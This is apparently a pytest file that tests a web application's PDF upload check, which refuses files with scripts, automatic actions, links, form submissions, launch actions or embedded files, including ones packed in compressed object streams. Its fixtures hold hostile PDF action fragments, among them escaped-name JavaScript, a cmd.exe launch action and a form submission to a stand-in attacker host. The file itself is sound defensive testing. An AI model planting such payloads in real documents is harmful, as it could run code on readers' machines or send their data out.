"""Uploaded PDFs are parsed (pypdf), every object walked — those packed in compressed object
streams too — and refused when they carry active content (scripts, automatic actions, links,
form submissions, launch actions, embedded files, multimedia) or cannot be read."""
import io
import struct
import zlib

import pytest
import weasyprint
from sqlalchemy import func, select
from werkzeug.datastructures import FileStorage

from gosmart.members.models import ApplicationDocument
from gosmart.extensions import db
from gosmart.uploads import DOCUMENT, MOU_DOCUMENT, UploadRefused, check_upload

from ...test_uploads import minimal_pdf


def object_stream_pdf(catalog_extra=b"", extra_objects=()):
    """A PDF 1.5 whose objects are all inside one compressed object stream, listed by a
    compressed cross-reference stream: nothing but the stream dictionaries is readable as is."""
    inner = [b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
             b"<< /Type /Pages /Kids [] /Count 0 >>", *extra_objects]
    offsets, body = [], b""
    for obj in inner:
        offsets.append(len(body))
        body += obj + b"\n"
    header = b" ".join(b"%d %d" % (number, offset) for number, offset in enumerate(offsets, 1)) + b"\n"
    packed = zlib.compress(header + body)
    stream_number, xref_number = len(inner) + 1, len(inner) + 2
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    stream_offset = len(out)
    out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        stream_number, len(inner), len(header), len(packed)) + packed + b"\nendstream\nendobj\n"
    xref_offset = len(out)
    rows = [(0, 0, 0xFFFF)] + [(2, stream_number, i) for i in range(len(inner))] + [
        (1, stream_offset, 0), (1, xref_offset, 0)]
    table = zlib.compress(b"".join(struct.pack(">BIH", *row) for row in rows))
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n" % (
        xref_number, len(rows), len(table)) + table + b"\nendstream\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


def refusal(data, kind=DOCUMENT):
    with pytest.raises(UploadRefused) as refused:
        check_upload(FileStorage(io.BytesIO(data), "letter.pdf"), kind)
    return str(refused.value)


ACTIVE = [
    ("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>", "scripts"),
    ("/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>", "scripts"),  # escaped names
    ("/Names << /JavaScript 3 0 R >>", "scripts"),
    ("/AA << /O << /S /GoTo /D [0 /Fit] >> >>", "automatic actions"),
    ("/OpenAction << /S /URI /URI (https://evil.example/) >>", "links"),
    ("/OpenAction << /S /SubmitForm /F (https://evil.example/collect) >>", "form submissions"),
    ("/OpenAction << /S /Launch /F (cmd.exe) >>", "launch actions"),
    ("/OpenAction << /S /GoToR /F (other.pdf) /D [0 /Fit] >>", "links"),
    ("/Names << /EmbeddedFiles << /Names [(x.exe) << /Type /Filespec /EF << /F 3 0 R >> >>] >> >>",
     "embedded files"),
    ("/AcroForm << /Fields [] /XFA 3 0 R >>", "form submissions"),
]


@pytest.mark.parametrize("catalog, what", ACTIVE)
def test_active_content_in_a_compressed_object_stream_is_refused(catalog, what):
    data = object_stream_pdf(catalog.encode(), extra_objects=[b"<< /Length 0 >>"])
    assert b"/JS" not in data and b"URI" not in data  # nothing to see without parsing
    assert f"This PDF contains {what};" in refusal(data)


@pytest.mark.parametrize("catalog, what", ACTIVE)
def test_active_content_written_plainly_is_refused(catalog, what):
    assert f"This PDF contains {what};" in refusal(minimal_pdf(b" " + catalog.encode()))


@pytest.mark.parametrize("annotation, what", [
    (b"<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A << /S /URI /URI (https://evil.example) >> >>", "links"),
    (b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 1 1] /FS << /F (a.exe) >> >>", "embedded files"),
    (b"<< /Type /Annot /Subtype /Widget /Rect [0 0 1 1] /AA << /K << /S /JavaScript /JS (1) >> >> >>", "scripts"),
    (b"<< /Type /EmbeddedFile /Length 0 >>", "embedded files"),
])
def test_active_objects_anywhere_in_the_file_are_found(annotation, what):
    assert what in refusal(object_stream_pdf(extra_objects=[annotation]))


def test_every_kind_found_is_named():
    message = refusal(object_stream_pdf(b"/OpenAction << /S /JavaScript /JS (1) >> /AA << >>",
                                        extra_objects=[b"<< /S /Launch /F (x) >>"]))
    assert "automatic actions, launch actions, scripts;" in message


@pytest.mark.parametrize("data", [
    b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 9 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n",
    minimal_pdf()[:60] + b"\nstartxref\n0\n%%EOF\n",
    object_stream_pdf()[:-60] + b"startxref\n12\n%%EOF\n",
])
def test_a_pdf_that_cannot_be_read_is_refused_with_a_clear_message(data):
    assert refusal(data).startswith("This PDF cannot be read: it is damaged, incomplete or protected by a password.")


def test_a_password_protected_pdf_is_refused():
    from pypdf import PdfWriter
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.encrypt("secret-user-password", "owner")
    out = io.BytesIO()
    writer.write(out)
    assert refusal(out.getvalue()).startswith("This PDF cannot be read")


@pytest.mark.parametrize("data", [
    weasyprint.HTML(string="<h1>Letter of intent</h1><p>臺北市 joins GO SMART.</p>").write_pdf(),
    minimal_pdf(),
    minimal_pdf(b" /OpenAction [2 0 R /Fit]"),           # opens at a page: not an action
    object_stream_pdf(b"/OpenAction << /S /GoTo /D [0 /Fit] >>"),
], ids=["weasyprint", "hand-made", "open at a page", "object streams, go to a page"])
def test_a_plain_pdf_is_accepted(data):
    assert check_upload(FileStorage(io.BytesIO(data), "letter.pdf"), DOCUMENT) == "pdf"
    assert check_upload(FileStorage(io.BytesIO(data), "signed.pdf"), MOU_DOCUMENT) == "pdf"


def test_through_http_a_script_in_an_object_stream_is_refused_and_nothing_stored(app, world):
    application = world.application_own
    before = db.session.scalar(select(func.count(ApplicationDocument.id)))
    client = world.client("applicant")
    # The file goes with the application's form ("Upload"); a refusal gives the form back.
    response = client.post(f"/applications/{application.id}/edit", content_type="multipart/form-data",
                           data={"name": "Kaohsiung City", "country": "TW", "action": "upload",
                                 "document": (io.BytesIO(object_stream_pdf(
                                     b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")), "letter.pdf")})
    page = response.get_data(as_text=True)
    assert response.status_code == 422 and "This PDF contains scripts;" in page
    assert db.session.scalar(select(func.count(ApplicationDocument.id))) == before
